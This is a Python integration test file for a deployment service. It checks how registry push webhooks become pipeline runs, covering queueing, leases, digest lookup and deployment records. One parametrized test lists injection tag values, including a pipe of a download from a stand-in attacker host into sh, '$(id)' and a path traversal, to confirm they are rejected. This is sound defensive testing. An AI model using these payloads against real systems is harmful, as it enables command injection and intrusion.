"""A push becomes a run, and the run goes through the ledger, on every database."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from services.config.model import lineage
from services.config.model.claims import State
from services.config.model.push_events import PushEvent
from services.config.model.triggers import Actor
from services.config.store import Store, deployments, pushed_images
from shared.contracts.catalog import Find, Kind
from shared.contracts.history import Deployed, Pushing, RunEnded, Status, TaskEnded, TaskHandle
from shared.contracts.pushes import Found, PushKind, RegistryAccess, TagResolve, TagResolved
from shared.contracts.runs import Directive, ExecutionChanged, ExecutionOver, Held, HeldRun, Released, StageOver
from tests.integration.config.conftest import Clock, Definitions, count, pipeline, webhook
from tests.integration.config.world import World, whole_run


@pytest.fixture
def world(store: Store, clock: Clock, definitions: Definitions) -> World:
    return World(store, clock, definitions)


def test_a_push_runs_to_its_end(world: World) -> None:
    event = world.hook()
    assert (event.verdict, event.reason) == ("started", "Started Deploy web #1.")
    assert event.execution_id is not None
    run_id = event.execution_id
    assert world.dispatched() == [run_id]

    answer = world.take(run_id)
    assert answer.taken
    assert answer.attempt == 1
    assert answer.inputs["DOCKER_TAG"] == "1.4.1"
    assert answer.inputs["DOCKER_IMAGE"] == "acme/web"
    assert answer.inputs["replicas"] == "2"
    assert answer.about is not None
    assert answer.about.requested_by == "ann"
    assert answer.plan["stages"][0]["name"] == "Build"

    reply = world.report(run_id, *whole_run())
    assert reply.accepted_seq == 12
    run = world.run(run_id)
    assert (run.status, run.status_message) == (Status.COMPLETED, "Execution Completed.")
    assert run.holding.state is State.ENDED
    assert [one.stage for one in world.messages(StageOver)] == ["Build", "Deploy"]
    (over,) = world.messages(ExecutionOver)
    assert (over.status, over.revision) == ("COMPLETED", run.revision)
    revisions = [one.revision for _, one, _ in world.said if isinstance(one, ExecutionChanged)]
    assert revisions == sorted(set(revisions))


def test_the_same_delivery_twice_starts_one_run(world: World) -> None:
    first = world.hook("d1")
    again = world.hook("d1")
    assert again.execution_id == first.execution_id
    assert count(world.store, "executions") == 1
    assert len(world.dispatched()) == 1


def test_a_message_sent_twice_is_taken_once(world: World) -> None:
    run_id = world.hook().execution_id or ""
    assert world.take(run_id, "r1", take_id="a").taken
    assert world.take(run_id, "r1", take_id="a").attempt == 1
    other = world.take(run_id, "r2", take_id="b")
    assert not other.taken
    assert "taken by r1" in other.reason


def test_the_digest_is_asked_for_and_then_the_run_starts_with_it(world: World) -> None:
    world.definitions.webhooks["token"] = webhook(access=RegistryAccess(registry_host="docker.io"))
    event = world.hook()
    assert event.verdict == "waiting for the registry"
    assert world.dispatched() == []
    (question,) = world.messages(TagResolve)
    assert (question.repository, question.tag) == ("acme/web", "1.4.1")

    world.inbox.work([TagResolved(delivery_id="d1", outcome=Found.FOUND, digest="sha256:abc")])
    event = world.delivery("d1")
    assert event.verdict == "started"
    assert event.push is not None
    assert event.push.digest == "sha256:abc"
    answer = world.take(event.execution_id or "")
    assert answer.inputs["DOCKER_IMAGE_REF"] == "acme/web:1.4.1@sha256:abc"


DIGEST = "sha256:" + "a" * 64
ELSEWHERE = RegistryAccess(registry_host="registry.example.com")


def outside(world: World, **more: Any) -> PushEvent:
    """A push at another registry than Docker Hub, which names its digest."""
    host = "registry.example.com"
    world.definitions.webhooks["token"] = webhook(registry_host=host, access=ELSEWHERE, **more)
    return world.hook(push={"registry_host": "registry.example.com", "digest": DIGEST})


@pytest.mark.parametrize(
    ("kind", "said"),
    [
        ("chart", "is a Helm chart (application/vnd.acme), not an image."),
        ("signature", "is a signature or attestation (application/vnd.acme), not an image."),
        ("other", "is an artifact of another kind (application/vnd.acme), not an image."),
    ],
)
def test_outside_docker_hub_the_manifest_says_what_was_pushed(world: World, kind: PushKind, said: str) -> None:
    assert outside(world).verdict == "waiting for the registry"
    (question,) = world.messages(TagResolve)
    assert question.digest == DIGEST
    found = TagResolved(
        delivery_id="d1", outcome=Found.FOUND, digest=DIGEST, media_type="application/vnd.acme", kind=kind
    )
    world.inbox.work([found])
    event = world.delivery("d1")
    assert (event.verdict, event.reason) == ("ignored: not an image", f"registry.example.com/acme/web:1.4.1 {said}")
    assert world.dispatched() == []


def test_an_artifact_is_not_gathered_with_the_images_of_its_repository(world: World) -> None:
    outside(world, gather_s=30.0)
    world.inbox.work([TagResolved(delivery_id="d1", outcome=Found.FOUND, digest=DIGEST, kind="signature")])
    assert world.delivery("d1").verdict == "ignored: not an image"


@pytest.mark.parametrize("outcome", [Found.UNAVAILABLE, Found.NOT_FOUND])
def test_a_push_that_names_its_image_runs_though_the_registry_shows_no_manifest(world: World, outcome: Found) -> None:
    outside(world)
    world.inbox.work([TagResolved(delivery_id="d1", outcome=outcome, detail="it answered 503.")])
    event = world.delivery("d1")
    assert event.verdict == "started" and event.push is not None and event.push.digest == DIGEST
    assert (
        event.reason == "Started Deploy web #1. The registry could not be asked for what was pushed: it answered 503."
    )


def test_docker_hub_which_counts_it_as_a_pull_is_not_asked_for_what_was_pushed(world: World) -> None:
    world.definitions.webhooks["token"] = webhook(access=RegistryAccess(registry_host="docker.io"))
    assert world.hook(push={"digest": DIGEST}).verdict == "started"
    assert world.messages(TagResolve) == []


def test_pushes_are_judged_in_their_order_though_the_registrys_answers_come_in_another(world: World) -> None:
    world.definitions.webhooks["token"] = webhook(access=RegistryAccess(registry_host="docker.io"))
    world.definitions.pipelines["Deploy web"] = pipeline(supersede="queue")
    for number in (1, 2, 3, 4):
        world.hook(f"d{number}", f"1.{number}")
    found = [TagResolved(delivery_id=f"d{n}", outcome=Found.FOUND, digest=f"sha256:{n}") for n in (1, 2, 3, 4)]
    world.inbox.work([found[2], found[1]])
    assert [world.delivery(f"d{n}").verdict for n in (1, 2, 3, 4)] == ["waiting for the registry"] * 4
    world.inbox.work([found[0]])
    verdicts = ["started", "queued", "queued", "waiting for the registry"]
    assert [world.delivery(f"d{n}").verdict for n in (1, 2, 3, 4)] == verdicts
    indices = [world.delivery(f"d{n}").execution_index for n in (1, 2, 3)]
    assert indices == [1, 2, 3]
    assert world.delivery("d3").push.digest == "sha256:3"  # type: ignore[union-attr]


def test_a_push_whose_answer_never_comes_holds_up_the_next_only_until_its_deadline(world: World) -> None:
    world.definitions.webhooks["token"] = webhook(access=RegistryAccess(registry_host="docker.io"))
    for number in (1, 2):
        world.hook(f"d{number}", f"1.{number}")
    world.inbox.work([TagResolved(delivery_id="d2", outcome=Found.FOUND, digest="sha256:2")])
    with world.store.write() as uow:
        world.receiver.on_deadline(uow, "d1")
    assert [world.delivery(f"d{n}").verdict for n in (1, 2)] == ["started", "queued"]


def test_an_unavailable_registry_starts_the_run_and_the_event_says_why(world: World) -> None:
    world.definitions.webhooks["token"] = webhook(access=RegistryAccess(registry_host="docker.io"))
    world.hook()
    world.inbox.work([TagResolved(delivery_id="d1", outcome=Found.UNAVAILABLE, detail="it answered 503.")])
    event = world.delivery("d1")
    assert event.verdict == "started"
    assert event.reason == ("Started Deploy web #1. The registry could not be asked for the digest: it answered 503.")


def test_what_the_registry_does_not_have_is_asked_for_again_and_then_not_found(world: World) -> None:
    world.definitions.webhooks["token"] = webhook(access=RegistryAccess(registry_host="docker.io"))
    world.hook()
    missing = TagResolved(delivery_id="d1", outcome=Found.NOT_FOUND)
    world.inbox.work([missing])
    assert world.delivery("d1").state == "retrying"
    world.clock.advance(601)
    with world.store.write() as uow:
        world.receiver.on_again(uow, "d1")
    assert len(world.messages(TagResolve)) == 2
    world.inbox.work([missing])
    event = world.delivery("d1")
    assert (event.verdict, event.execution_id) == ("not found", None)


def test_one_run_at_a_time_and_of_those_waiting_only_the_newest(world: World) -> None:
    first = world.hook("d1", "1.0")
    second = world.hook("d2", "1.1")
    third = world.hook("d3", "1.2")
    assert [one.verdict for one in (first, second, third)] == ["started", "queued", "queued"]
    assert second.reason == "Queued as Deploy web #2, behind #1."
    assert world.delivery("d2").execution_status == "CANCELED"
    assert world.delivery("d2").reason == "Superseded by #3 before it started."
    assert world.dispatched() == [first.execution_id]

    world.finish(first.execution_id or "", Status.FAILED, "Deploy.Apply: no")
    assert world.dispatched() == [first.execution_id, third.execution_id]
    assert world.run(third.execution_id).status_message == ""


def test_two_repositories_do_not_wait_for_each_other(world: World) -> None:
    world.definitions.webhooks["token"] = webhook(repository="")
    first = world.hook("d1")
    second = world.hook("d2", push={"repository": "acme/api"})
    assert [first.verdict, second.verdict] == ["started", "started"]


def test_a_pipelines_limit_holds_for_parallel_runs(world: World) -> None:
    world.definitions.pipelines["Deploy web"] = replace(pipeline(supersede="parallel"), concurrency=2)
    events = [world.hook(f"d{number}", f"1.{number}") for number in range(4)]
    assert [one.verdict for one in events] == ["started", "started", "queued", "queued"]
    assert "Deploy web runs 2 at a time" in events[2].reason
    world.finish(events[0].execution_id or "")
    assert world.dispatched() == [events[number].execution_id for number in (0, 1, 2)]


def test_skip_new_and_cancel_older(world: World) -> None:
    world.definitions.pipelines["Deploy web"] = pipeline(supersede="skip-new")
    first = world.hook("d1", "1.0")
    assert world.hook("d2", "1.1").verdict == "not started: another is running"
    world.take(first.execution_id or "")
    world.definitions.pipelines["Deploy web"] = replace(pipeline(supersede="cancel-older"), version=2)
    assert world.hook("d3", "1.2").verdict == "queued"
    assert world.run(first.execution_id).status is Status.CANCELING
    answer = world.ledger.held(Held(runner="r1", holds=(HeldRun(execution_id=first.execution_id or "", attempt=1),)))
    assert answer.verdicts == {first.execution_id: Directive.CANCEL}


def test_a_repeat_of_the_same_push_is_a_duplicate(world: World) -> None:
    world.hook("d1", push={"pushed_at": 1_700_000_000.0})
    again = world.hook("d2", push={"pushed_at": 1_700_000_000.0})
    assert again.verdict == "duplicate"
    assert "d1" in again.reason
    assert world.hook("d3", push={"pushed_at": 1_700_000_060.0}).verdict == "queued"


@pytest.mark.parametrize(
    ("change", "verdict"),
    [
        ({"enabled": False}, "ignored: disabled"),
        ({"tag_pattern": "v.*"}, "ignored: tag"),
        ({"exclude": ("1.4.1",)}, "ignored: tag"),
        ({"image_pattern": "acme/api"}, "ignored: image"),
        ({"repository": "acme/api"}, "ignored: repository"),
        ({"pipeline": "", "missing": ("It names no pipeline.",)}, "not started: incomplete webhook"),
        ({"pipeline": "Deploy api"}, "not started: incomplete webhook"),
        ({"actor": Actor("ann", token_problem="It ended on 3 May 2026.")}, "not started: token ended"),
        ({"actor": Actor("token-bot", right_problem="User token-bot is disabled.")}, "not started: no right"),
        ({"tag_pattern": "("}, "not started: incomplete webhook"),
    ],
)
def test_every_delivery_has_a_verdict_and_a_reason(world: World, change: dict[str, object], verdict: str) -> None:
    world.definitions.webhooks["token"] = webhook(**change)
    event = world.hook()
    assert event.verdict == verdict
    assert event.reason
    assert event.next_step
    assert world.dispatched() == []


@pytest.mark.parametrize(
    "tag", ["1.0; curl evil.example.com | sh", "$(id)", "../../catalog", "a b", "-x", "ü", "a\nb", "x" * 129, "v1:2"]
)
def test_a_tag_that_no_registry_takes_reaches_no_script(world: World, tag: str) -> None:
    event = world.hook(tag=tag)
    assert event.verdict == "unreadable" and "No registry takes" in event.reason
    assert world.dispatched() == []


@pytest.mark.parametrize(
    ("host", "repository", "image"),
    [
        ("registry.example.com", "acme/web", "registry.example.com/acme/web"),
        ("docker.io", "acme/web", "acme/web"),
        ("", "acme/web", "acme/web"),
        ("docker.io", "busybox", "library/busybox"),
        ("registry.example.com:5000", "web", "registry.example.com:5000/web"),
    ],
)
def test_a_sender_that_names_no_registry_speaks_for_the_webhooks(
    world: World, host: str, repository: str, image: str
) -> None:
    world.definitions.webhooks["token"] = webhook(registry_host=host, repository="")
    event = world.hook(push={"provider": "nexus", "registry_host": "", "repository": repository})
    assert event.verdict == "started"
    assert event.push is not None and event.push.image == image


def test_an_unknown_token_is_recorded(world: World) -> None:
    event = world.hook(token_hash="other")
    assert event.verdict == "unknown token"
    assert event.project == ""


def test_a_missing_input_and_a_disabled_pipeline_say_so(world: World) -> None:
    world.definitions.pipelines["Deploy web"] = pipeline(
        _inputMeta={"cluster": {"mandatory": True}}, input={"cluster": ""}
    )
    event = world.hook("d1")
    assert event.verdict == "not started: input missing"
    assert "cluster" in event.reason
    world.definitions.pipelines["Deploy web"] = replace(pipeline(), state="DISABLED", version=2)
    assert world.hook("d2").verdict == "not started: pipeline disabled"


def test_what_comes_late_does_not_replace_what_is_newer(world: World) -> None:
    early = world.clock() - 60
    world.hook("d2", "1.5")
    world.hook("d1", "1.4", received_at=early, via="spool")
    world.ordered()
    event = world.delivery("d1")
    assert event.verdict == "held as older"
    assert "1.5" in event.reason
    world.hook("d0", "1.3", received_at=early - 90_000, via="spool")
    world.ordered()
    assert world.delivery("d0").verdict == "held as late"


def test_a_holder_that_is_silent_for_a_lease_loses_the_run_and_a_zombie_is_fenced(world: World) -> None:
    run_id = world.hook().execution_id or ""
    world.take(run_id)
    world.leases.tick(world.clock())
    for _ in range(12):
        world.clock.advance(1)
        world.leases.tick(world.clock())
        world.ledger.watch(connected=True)
    assert world.run(run_id).holding.dispatch == 2
    assert world.dispatched() == [run_id, run_id]
    assert world.take(run_id, "r2", dispatch=2, take_id="b").attempt == 2
    assert world.report(run_id, *whole_run()).verdict is Directive.FENCED
    answer = world.ledger.held(Held(runner="r1", holds=(HeldRun(execution_id=run_id, attempt=1),)))
    assert answer.verdicts == {run_id: Directive.FENCED}


def test_time_without_a_broker_does_not_count_against_a_lease(world: World) -> None:
    run_id = world.hook().execution_id or ""
    world.take(run_id)
    for _ in range(20):
        world.clock.advance(2)
        world.leases.tick(0.0)
        world.ledger.watch(connected=False)
    assert world.run(run_id).holding.dispatch == 1


def test_a_runner_that_lets_go_in_order_is_replaced_at_once(world: World) -> None:
    run_id = world.hook().execution_id or ""
    world.take(run_id)
    world.report(run_id, *whole_run()[:6])
    world.inbox.work([Released(execution_id=run_id, attempt=1, runner="r1")])
    answer = world.take(run_id, "r2", dispatch=2, take_id="b")
    assert answer.taken
    assert [one.event.type for one in answer.history] == [one.type for one in whole_run()[:6]]


def test_an_untaken_dispatch_is_sent_again(world: World) -> None:
    run_id = world.hook().execution_id or ""
    world.clock.advance(61)
    world.ledger.watch(connected=True)
    assert world.dispatched() == [run_id, run_id]
    assert not world.take(run_id).taken
    assert world.take(run_id, dispatch=2).taken


def test_while_the_broker_is_away_nothing_is_sent_again(world: World) -> None:
    run_id = world.hook().execution_id or ""
    for _ in range(60):
        world.clock.advance(2)
        world.ledger.watch(connected=False)
    assert world.dispatched() == [run_id]
    world.clock.advance(29)
    world.ledger.watch(connected=True)
    assert world.dispatched() == [run_id]
    world.clock.advance(2)
    world.ledger.watch(connected=True)
    assert world.dispatched() == [run_id, run_id]


def push_by_task(repository: str, tag: str, digest: str) -> TaskHandle:
    pushing = Pushing(registry_host="docker.io", repository=repository, tag=tag, digest=digest)
    return TaskHandle(seq=0, at=0, stage="Build", task="Promote", handle={"phase": "tag"}, pushing=(pushing,))


def test_what_a_run_pushes_is_on_record_with_the_chain_of_runs_behind_it(world: World) -> None:
    digest = "sha256:" + "d" * 64
    first = world.hook("d1", "latest", push={"digest": digest}).execution_id or ""
    world.take(first)
    ended = RunEnded(seq=0, at=0, status=Status.COMPLETED)
    world.report(first, push_by_task("acme/web", "prod", digest), ended)
    world.definitions.pipelines["Mirror"] = pipeline("Mirror")
    world.definitions.webhooks["mirror"] = webhook(id="webhook-2", pipeline="Mirror")
    second = world.hook("d2", "prod", push={"digest": digest}, token_hash="mirror").execution_id or ""
    world.take(second)
    for number in (1, 2):
        # A successor that records the same handle again adds nothing.
        world.report(second, push_by_task("mirror/web", "prod", digest), first=number)
    assert count(world.store, "pushed_images") == 2

    with world.store.read() as uow:
        assert pushed_images.pusher(uow, "acme/web", "prod", "sha256:" + "0" * 64) is None
        found = pushed_images.pusher(uow, "mirror/web", "prod", digest)
    assert found is not None
    assert (found.execution_id, found.task, found.registry_host) == (second, "Promote", "docker.io")
    assert lineage.wording(found.causes) == "Mirror #1, after Deploy web #1"
    assert lineage.already(found.causes, "pipeline-Deploy web", digest) == found.causes[1]
    assert lineage.already(found.causes, "pipeline-Other", digest) is None
    assert lineage.already(found.causes, "pipeline-Deploy web", "sha256:" + "0" * 64) is None


def test_what_a_run_deploys_is_the_newest_of_its_workload_and_what_was_before_is_remembered(world: World) -> None:
    def deploy(tag: str, clock_s: float) -> str:
        world.clock.advance(clock_s)
        run_id = world.hook(tag).execution_id or ""
        world.take(run_id)
        web = Deployed(
            endpoint="prod", api_version="apps/v1", kind="Deployment", namespace="apps", name="web", images=(tag,)
        )
        events = [
            one.model_copy(update={"deployed": (web,)}) if isinstance(one, TaskEnded) and one.task == "Apply" else one
            for one in whole_run()
        ]
        assert any(isinstance(one, TaskEnded) and one.deployed for one in events)
        world.report(run_id, *events)
        return run_id

    first, second = deploy("d1", 0), deploy("d2", 60)
    with world.store.read() as uow:
        (newest,), total = deployments.page(uow, None, Find(kind=Kind.DEPLOYMENTS))
        assert (total, newest.execution_id, newest.images, newest.pipeline) == (1, second, ["d2"], "Deploy web")
        history, _ = deployments.page(uow, None, Find(kind=Kind.DEPLOYMENTS, parent=newest.id))
        assert [(one.execution_id, one.newest) for one in history] == [(second, True), (first, False)]
        assert deployments.page(uow, frozenset({"other"}), Find(kind=Kind.DEPLOYMENTS)) == ([], 0)
